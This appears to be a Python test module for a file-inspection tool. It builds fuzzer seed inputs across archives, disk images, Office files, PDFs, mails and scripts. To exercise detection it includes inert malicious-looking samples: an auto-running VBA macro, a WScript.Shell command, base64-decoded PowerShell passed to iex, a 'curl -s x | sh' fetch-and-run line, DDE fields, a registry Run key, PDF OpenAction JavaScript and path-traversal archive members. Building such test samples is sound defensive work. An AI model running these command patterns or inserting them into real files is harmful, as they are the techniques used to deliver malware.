"""Whole inputs that the parsers understand, made by the tests' own builders: what a fuzzer starts from."""

import bz2
import gzip
import lzma
import random
import zipfile
import zlib
from functools import cache

from backports import zstd

from gifthorse.inspect.filetypes import FileType
from tests.fuzz.same_seeds import settled
from tests.samples import apple_disks, archives, disk_files, documents, files, packages
from tests.samples.rar5 import Part, link, rar5, stream

FILES = {"a.txt": b"hello " * 300, "folder/b.bin": bytes(range(256)) * 4, "c.docx": documents.package("docx")}
MODULES = {"ThisDocument": "Attribute VB_Name\r\nSub AutoOpen()\r\nMsgBox 1\r\nEnd Sub\r\n" * 3}
PAGE = '<html><body><a href="https://example.org/x">https://example.net/</a><script>var a = atob("QUJD" + "REVG");</script></body></html>'
SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a href="javascript:x">t</a></svg>'
SCRIPT = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c echo " & Chr(65) & Chr(66), 0\r\n' * 3
POWERSHELL = "$a = [Convert]::FromBase64String('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo='); iex ($a -join '')\n" * 3


def seven_zip(inner: dict[str, bytes], **how: object) -> bytes:
    import io

    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", **how) as archive:
        for name, body in inner.items():
            archive.writef(io.BytesIO(body), name)
    return out.getvalue()


@cache
@settled()
def containers() -> dict[FileType, list[bytes]]:
    """Inputs by the type of container that they are."""
    disk = archives.iso_of({"a.txt": b"hello"})
    small = {"a.txt": b"hello " * 30, "b/c.bin": bytes(range(64))}
    zips = [archives.zip_of(small, method) for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)]
    return {
        FileType.ZIP: [
            *zips,
            archives.zip_with_hidden_member({"a": b"x"}, "h", b"y"),
            archives.overlapping_zip(4, 2000),
            archives.zip_of(FILES),
        ],
        FileType.TAR: [archives.tar_of(small, {"l": "../x"}), archives.sparse_tar(1 << 16), archives.tar_of(small, form=1)],
        FileType.CPIO: [archives.cpio_of(small)],
        FileType.AR: [archives.ar_of(small)],
        FileType.SEVEN_ZIP: [
            seven_zip(small),
            seven_zip(small, password="gift"),
            seven_zip(small, filters=[{"id": lzma.FILTER_LZMA2, "preset": 1}]),
        ],
        FileType.RAR: [
            archives.rar4_of(small),
            archives.rar5_of(small),
            archives.rar5_of(small, locked=True),
            rar5([Part(name="a", body=b"a"), stream(":b.exe", b"b"), link("c", "../d")]),
            archives.rar4_of(small, locked=True),
        ],
        FileType.CAB: [archives.cab_of(small), archives.cab_of(small, packed=False)],
        FileType.CHM: [archives.chm_of({"/a.htm": (0, b"hello"), "/b": (1, b"x")})],
        FileType.PE: [archives.program_of(zips[1]), archives.program_of(archives.cab_of(small)), files.pe(original_name="a.exe")],
        FileType.MSI: [documents.compound_file({"Binary.a": files.pe(), "!_Tables": b"x" * 20, "a.cab": archives.cab_of(small)})],
        FileType.ISO: [disk[:65536]],
        FileType.DISK_IMAGE: [
            apple_disks.container(small)
        ],  # what the Sleuth Kit opens can wait in C for ever; the coordinator's clock ends that
        FileType.LHA: [archives.lha_of(small)],
        FileType.OTHER_ARCHIVE: [
            packages.rpm_of(gzip.compress(archives.cpio_of(small), mtime=0), {"postin": b"true"}),
            packages.xar_of({"a/b": ("application/x-gzip", zlib.compress(b"hello" * 50)), "c": ("application/octet-stream", b"x" * 70)}),
            bytes.fromhex("04224d186040820500008000") + b"inert" + bytes(4),
            b"\x1f\x9d\x90" + bytes(range(60)),
            b"-----BEGIN PGP MESSAGE-----\n\nhQEMA",
        ],
        FileType.VHD: [
            archives.dynamic_vhd(disk),
            archives.fixed_vhd(disk[:4096]),
            disk_files.differencing_vhd(disk, bytes(len(disk)), bytes(16)),
        ],
        FileType.VHDX: [_short_vhdx(disk)],
        FileType.QCOW2: [archives.qcow2_of(disk), archives.qcow2_of(disk, packed=True)],
        FileType.VMDK: [archives.vmdk_of(disk)],
        FileType.DMG: [archives.dmg_of(disk), archives.dmg_of(disk, 0x80000006)],
        FileType.E01: [archives.e01_of(disk), b"".join(disk_files.e01_set_of(disk, 3))],
        FileType.GZIP: [gzip.compress(b"hello" * 100, mtime=0), gzip.compress(archives.tar_of(small), mtime=0)],
        FileType.BZIP2: [bz2.compress(b"hello" * 100)],
        FileType.XZ: [lzma.compress(b"hello" * 100)],
        FileType.LZMA: [lzma.compress(b"hello" * 100, lzma.FORMAT_ALONE)],
        FileType.ZSTD: [zstd.compress(b"hello" * 100), b"\x50\x2a\x4d\x18\x04\0\0\0note" + zstd.compress(b"x" * 200)],
    }


def _short_vhdx(disk: bytes) -> bytes:
    """Its structures lie megabytes apart, too far for a fuzzer: those of the last one are cut off."""
    return archives.vhdx_of(disk)[: (3 << 20) + 70_000]


@cache
@settled()
def office() -> dict[FileType, list[bytes]]:
    """Documents by type."""
    links = documents.relationships(("attachedTemplate", "https://example.org/t.dotm", True), ("oleObject", "embeddings/o.bin", False))
    parts = {
        "word/_rels/document.xml.rels": links,
        "word/embeddings/o.bin": documents.compound_file({"\x01Ole10Native": documents.ole_native("a.exe", files.pe())}),
    }
    workbook = documents.workbook_stream([("One", 0, 0), ("Macro", 1, 2)], auto_open=True, links=["cmd\x03/c x"])
    inner = documents.compound_file({"\x01Ole10Native": documents.ole_native("a.bat", b"echo")})
    return {
        FileType.OOXML_WORD: [
            documents.package("docx", parts),
            documents.macro_document(MODULES),
            documents.package("docx", {"word/document.xml": documents.word_fields("DDE", "AUTO c:\\x cmd")}),
        ],
        FileType.OOXML_SHEET: [
            documents.package("xlsx"),
            documents.package("xlsx", {"xl/macrosheets/sheet1.xml": b"<a><f>EXEC(1)</f></a>"}),
        ],
        FileType.OOXML_SLIDES: [documents.package("pptx")],
        FileType.ODF: [
            documents.open_document(content='<text:a xlink:href="http://x/"/><script:event-listener/>'),
            documents.open_document({"Basic/script-lc.xml": b"<a/>"}),
        ],
        FileType.OLE_WORD: [
            documents.word_binary(
                b"\x13DDEAUTO c:\\\\x\x14y\x15", template="\\\\host\\t.dot", extra=documents.vba_streams(MODULES, "Macros")
            ),
            documents.word_binary(flags=0x100),
        ],
        FileType.OLE_SHEET: [
            documents.compound_file({"Workbook": workbook}),
            documents.compound_file({"Workbook": documents.workbook_stream([("a", 0, 0)], encrypted=True)}),
        ],
        FileType.OLE_SLIDES: [
            documents.compound_file(
                {
                    "PowerPoint Document": b"\x0f\0\xe8\x03"
                    + (40).to_bytes(4, "little")
                    + b"\x10\0\x11\x10"
                    + (20).to_bytes(4, "little")
                    + bytes(60),
                    "Current User": b"x" * 30,
                }
            )
        ],
        FileType.OLE: [inner, documents.vba_project(MODULES)],
        FileType.OLE_ENCRYPTED_OFFICE: [
            documents.compound_file(
                {
                    "EncryptedPackage": bytes(64),
                    "EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0" + b'<encryption><keyEncryptor spinCount="100"/></encryption>',
                }
            )
        ],
        FileType.RTF: [
            documents.rich_text(documents.rtf_object(documents.ole1("Package", documents.packaged("a.exe", b"MZ")))),
            documents.rich_text("{\\*\\template http://x/}"),
        ],
        FileType.PDF: pdfs(),
        FileType.ONENOTE: [documents.notebook(("a.bat", b"echo"), ("b.png", files.png()))],
        FileType.EML: mails(),
        FileType.MBOX: [b"From a@b Sun Nov 22 10:00:00 2026\n" + mail + b"\n" for mail in mails()],
        FileType.MSG: [documents.outlook_message(html=PAGE, headers="From: a@b\r\nReply-To: c@d\r\n", attachments=[("a.exe", files.pe())])],
    }


def pdfs() -> list[bytes]:
    import pikepdf

    def active(document: object) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))  # type: ignore[attr-defined]
        document.attachments["a.exe"] = files.pe()  # type: ignore[attr-defined]

    plain = documents.pdf(active, static_id=True)
    return [plain, documents.hidden(plain), files.pdf()]


def mails() -> list[bytes]:
    random.seed("mail")  # the boundaries between parts are drawn from here
    headers = {"Reply-To": "x@example.com", "Authentication-Results": "mx; spf=fail dmarc=fail"}
    return [
        documents.mail(html=PAGE, attachments=[("a.exe", files.pe())], headers=headers),
        documents.mail(),
        documents.mail(attachments=[("b.eml", documents.mail())]),
    ]


def pictures() -> list[bytes]:
    return [
        files.jpeg(files.exif("Maker", "Model"), files.comment(b"note")) + b"\0\0tail",
        files.png() + b"PK\x03\x04",
        files.gif(),
        files.bmp(),
        files.mp4(),
        files.wav(),
        b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0" + bytes(10),
        files.exif("M")[10:],
    ]


def programs() -> list[bytes]:
    return [files.pe(original_name="a.exe", signature=b"x" * 16), files.elf(), files.macho(), archives.program_of(b"x" * 10)]


def manifests() -> list[bytes]:
    text = "android.permission.RECORD_AUDIO android.permission.SEND_SMS"
    return [text.encode(), text.encode("utf-16-le"), b"\x03\0\x08\0" + text.encode("utf-16-le")]


def texts() -> list[bytes]:
    words = [
        PAGE,
        SVG,
        SCRIPT,
        POWERSHELL,
        "[InternetShortcut]\r\nURL=file://host/a\r\nIconFile=\\\\host\\i.ico\r\n",
        "#!/bin/sh\ncurl -s x | sh\n",
    ]
    words += [
        '{"a": [1, 2]}',
        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n"a"="cmd"\r\n',
        "@echo off\r\nset a=b\r\n%a:~0,1%\r\n",
    ]
    words += [
        "[Desktop Entry]\nType=Application\nExec=sh -c 'x'\nName=Photos\n",
        "<job><script language='JScript'>new ActiveXObject('x')</script></job>",
    ]
    return [text.encode() for text in words]


@cache
def every_kind() -> dict[str, bytes]:
    """One input of every kind there is, by a name that fits it."""
    named = {f"container-{kind}": seeds[0] for kind, seeds in containers().items()}
    named |= {f"document-{kind}": seeds[0] for kind, seeds in office().items()}
    named |= {f"{group.__name__}-{number}": body for group in (pictures, programs, texts) for number, body in enumerate(group())}
    return {name: body[:65536] for name, body in named.items()}
